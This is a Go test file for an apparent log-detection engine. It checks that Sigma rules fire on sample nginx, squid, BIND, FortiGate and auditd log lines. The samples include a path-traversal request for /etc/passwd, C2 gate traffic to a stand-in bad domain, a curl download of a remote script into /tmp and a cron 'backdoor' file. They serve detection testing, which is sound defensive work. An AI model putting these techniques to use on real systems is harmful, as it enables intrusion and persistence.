package detect_test

import (
	"fmt"
	"slices"
	"testing"
	"time"

	"khien.vn/khien/internal/detect"
	"khien.vn/khien/internal/detect/sigma"
	"khien.vn/khien/internal/event"
	"khien.vn/khien/internal/ingest/normalize"
)

// Web server, proxy, DNS and firewall rules, written with the field names
// SigmaHQ uses for these generic logsources, fire on the events Khiên's
// own parsers make from raw log lines — and only for their logsource.
func TestMappingGenericLogsources(t *testing.T) {
	const rules = `
title: Web path traversal
id: t-web
logsource: {category: webserver}
detection:
    sel:
        cs-method: GET
        cs-uri-query|contains: '../../'
        sc-status: 200
    condition: sel
---
title: Web scanner user agent
id: t-web-ua
logsource: {category: webserver}
detection:
    sel:
        cs-user-agent|contains: sqlmap
    condition: sel
---
title: Proxy download of a cabinet from a raw IP or odd domain
id: t-proxy
logsource: {category: proxy}
detection:
    sel:
        c-uri-extension: cab
        cs-host|endswith: '.example.vn'
        cs-method: GET
    condition: sel
---
title: Proxy C2 gate
id: t-proxy-gate
logsource: {category: proxy}
detection:
    sel:
        c-uri|contains: '/gate.php'
    condition: sel
---
title: DNS lookup of a known bad domain
id: t-dns
logsource: {category: dns}
detection:
    sel:
        query|endswith: '.bad.example'
    condition: sel
---
title: Firewall allowed SMB to the internet
id: t-fw
logsource: {category: firewall}
detection:
    sel:
        dst_port: 445
        action: accept
    condition: sel
`
	rs, err := sigma.Parse([]byte(rules), "inline.yml")
	if err != nil {
		t.Fatal(err)
	}
	eng, problems, err := detect.Compile(rs, detect.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range problems {
		if !p.Loaded {
			t.Fatalf("rule %s not loaded: %s", p.Rule.Title, p.Reason)
		}
	}
	norm := normalize.Default()
	m := eng.NewMatcher()
	match := func(tag, line string) []string {
		e := event.Event{Received: time.Now(), Source: event.Source{Kind: event.KindSyslog}, Message: line,
			Fields: map[string]string{"log.syslog.priority": "86", "host.name": "h", "process.name": tag, "message": line}}
		norm.Normalize(&e)
		var ids []string
		for _, i := range m.MatchEvent(&e) {
			ids = append(ids, eng.Rules()[i].ID)
		}
		slices.Sort(ids)
		return ids
	}
	for _, tc := range []struct {
		name, tag, line string
		want            []string
	}{
		{"nginx traversal", "nginx", `203.0.113.7 - - [12/Jan/2025:10:00:00 +0700] "GET /download?file=../../etc/passwd HTTP/1.1" 200 512 "-" "curl/8.5"`, []string{"t-web"}},
		{"nginx traversal refused", "nginx", `203.0.113.7 - - [12/Jan/2025:10:00:00 +0700] "GET /download?file=../../etc/passwd HTTP/1.1" 403 512 "-" "curl/8.5"`, nil},
		{"apache sqlmap", "httpd", `198.51.100.80 - - [12/Jan/2025:10:00:04 +0700] "GET /?id=1 HTTP/1.1" 200 10 "-" "sqlmap/1.8"`, []string{"t-web-ua"}},
		{"plain access log", "", `198.51.100.80 - - [12/Jan/2025:10:00:04 +0700] "GET /x HTTP/1.1" 200 10 "-" "sqlmap/1.8"`, []string{"t-web-ua"}},
		{"squid cab", "squid", `1736651742.123 245 10.20.3.44 TCP_MISS/200 5123 GET http://update.example.vn/a/b.CAB - HIER_DIRECT/203.0.113.10 application/octet-stream`, []string{"t-proxy"}},
		{"squid gate denied", "squid", `1736651743.001 0 10.20.3.46 TCP_DENIED/403 3942 GET http://c2.bad.example/gate.php?id=7 - HIER_NONE/- text/html`, []string{"t-proxy-gate"}},
		{"combined-format proxy", "squid", `10.20.3.44 - - [12/Jan/2025:10:00:05 +0700] "GET http://c2.bad.example/gate.php HTTP/1.1" 200 99 "-" "Mozilla/5.0"`, []string{"t-proxy-gate"}},
		{"web server is not a proxy", "nginx", `10.20.3.44 - - [12/Jan/2025:10:00:05 +0700] "GET /gate.php HTTP/1.1" 200 99 "-" "Mozilla/5.0"`, nil},
		{"bind query", "named", `client @0x7f3a2c0b8e50 10.20.3.44#53211 (c2.bad.example): query: c2.bad.example IN A +E(0) (10.0.0.53)`, []string{"t-dns"}},
		{"fortigate smb out", "", `date=2025-01-12 time=10:00:00 devname="fw01" devid="FG100F" logid="0000000013" type="traffic" subtype="forward" level="notice" srcip=10.20.0.5 srcport=50000 dstip=198.51.100.9 dstport=445 proto=6 action="accept" policyid=12`, []string{"t-fw"}},
		{"fortigate smb denied", "", `date=2025-01-12 time=10:00:00 devname="fw01" devid="FG100F" logid="0000000013" type="traffic" subtype="forward" level="notice" srcip=10.20.0.5 srcport=50000 dstip=198.51.100.9 dstport=445 proto=6 action="deny" policyid=12`, nil},
	} {
		if got := match(tc.tag, tc.line); !slices.Equal(got, tc.want) {
			t.Errorf("%s: matched %v, want %v", tc.name, got, tc.want)
		}
	}
}

// Linux process-creation and file-event rules fire on auditd records, the
// EXECVE/PATH record completed by its SYSCALL record.
func TestMappingLinuxAuditd(t *testing.T) {
	const rules = `
title: Whoami with a command line
id: t-lnx-proc
logsource: {product: linux, category: process_creation}
detection:
    sel:
        Image|endswith: '/curl'
        CommandLine|contains: ' -o /tmp/'
    condition: sel
---
title: Cron file created
id: t-lnx-file
logsource: {product: linux, category: file_event}
detection:
    sel:
        TargetFilename|startswith: '/etc/cron.d/'
        Image|endswith: '/bash'
    condition: sel
`
	rs, err := sigma.Parse([]byte(rules), "inline.yml")
	if err != nil {
		t.Fatal(err)
	}
	eng, problems, err := detect.Compile(rs, detect.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range problems {
		t.Errorf("rule %s: %s (loaded %v)", p.Rule.Title, p.Reason, p.Loaded)
	}
	lines := []string{
		`type=SYSCALL msg=audit(1736651742.123:8812): arch=c000003e syscall=59 success=yes exit=0 ppid=2211 pid=2290 auid=1001 uid=0 comm="curl" exe="/usr/bin/curl" key="exec"`,
		`type=EXECVE msg=audit(1736651742.123:8812): argc=4 a0="curl" a1="-s" a2="-o /tmp/x.sh" a3="http://198.51.100.4/x.sh"`,
		`type=SYSCALL msg=audit(1736651743.000:8820): arch=c000003e syscall=257 success=yes exit=3 ppid=2211 pid=2300 auid=1001 uid=0 comm="bash" exe="/usr/bin/bash" key="cron"`,
		`type=PATH msg=audit(1736651743.000:8820): item=1 name="/etc/cron.d/backdoor" inode=7 nametype=CREATE`,
		`type=EXECVE msg=audit(1736651744.000:8830): argc=2 a0="curl" a1="-o /tmp/y"`, // no SYSCALL: no Image
	}
	batch := make([]event.Event, len(lines))
	for i, l := range lines {
		batch[i] = event.Event{Received: time.Now(), Source: event.Source{Kind: event.KindSyslog}, Message: l,
			Fields: map[string]string{"log.syslog.priority": "86", "host.name": "srv-db-01", "process.name": "audispd", "message": l}}
	}
	normalize.Default().NormalizeBatch(batch)
	normalize.NewAuditJoin().Apply(batch)
	m := eng.NewMatcher()
	var got []string
	for i := range batch {
		for _, r := range m.MatchEvent(&batch[i]) {
			got = append(got, fmt.Sprintf("%d:%s", i, eng.Rules()[r].ID))
		}
	}
	if want := []string{"1:t-lnx-proc", "3:t-lnx-file"}; !slices.Equal(got, want) {
		t.Errorf("matches %v, want %v", got, want)
	}
}
